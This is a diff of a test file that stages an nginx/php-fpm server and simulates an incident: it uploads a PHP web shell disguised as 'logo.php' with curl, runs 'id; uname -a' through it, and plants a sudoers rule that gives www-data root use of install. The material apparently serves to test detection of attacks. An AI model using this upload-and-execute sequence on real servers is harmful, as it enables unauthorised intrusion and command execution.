@@ -21,20 +21,17 @@ describe.skipIf(lacksScenario(['/usr/sbin/nginx', '/usr/sbin/php-fpm8.2', '/usr/
         host.plant('/etc/sudoers.d/site', 'www-data ALL=(root) NOPASSWD: /usr/bin/install\n', { mode: 0o440 });
         host.plant('/etc/php/8.2/fpm/pool.d/www.conf', '[www]\nuser = www-data\ngroup = www-data\nlisten = /run/php.sock\nlisten.mode = 0666\npm = static\npm.max_children = 3\n');
         host.plant('/etc/nginx/nginx.conf', 'user www-data;\npid /run/nginx.pid;\nevents {}\nhttp { access_log /var/log/nginx/access.log; error_log /var/log/nginx/error.log; server { listen 80; root /var/www/html; location ~ \\.php$ { include /etc/nginx/fastcgi_params; fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name; fastcgi_pass unix:/run/php.sock; } } }\n');
-        await host.service('php8.2-fpm', '[Service]\nType=notify\nExecStart=/usr/sbin/php-fpm8.2 --nodaemonize\n');
+        await host.service('php8.2-fpm', '[Service]\nType=notify\nRuntimeDirectory=php\nExecStart=/usr/sbin/php-fpm8.2 --nodaemonize\n');
         await host.service('nginx', '[Service]\nExecStart=/usr/sbin/nginx -g "daemon off;"\n');
         await ordinaryLoad(host);
       },
     });
-    await scene.until('the site to answer', () => true);
     for (let i = 0; i < 5; i++) expect(await web(visitor, '/index.php')).toContain('welcome');
   });
   afterAll(async () => { await scene?.end(); });
 
   it('is one incident from the upload to the backdoor, and ends with its plan', async () => {
     const { host } = scene;
-    host.plant('/tmp/never', '');
-    await host.must('rm', '/tmp/never');
     const form = ['-F', 'f=@-;filename=logo.php'];
     expect((await scene.host.outside('/usr/bin/curl', ['-s', '--interface', attacker, ...form, `http://${hostAddress}/upload.php`], { input: shell })).stdout).toContain('thank you');
     expect(await web(attacker, '/uploads/logo.php', '--data-urlencode', 'c=id; uname -a')).toContain('www-data');
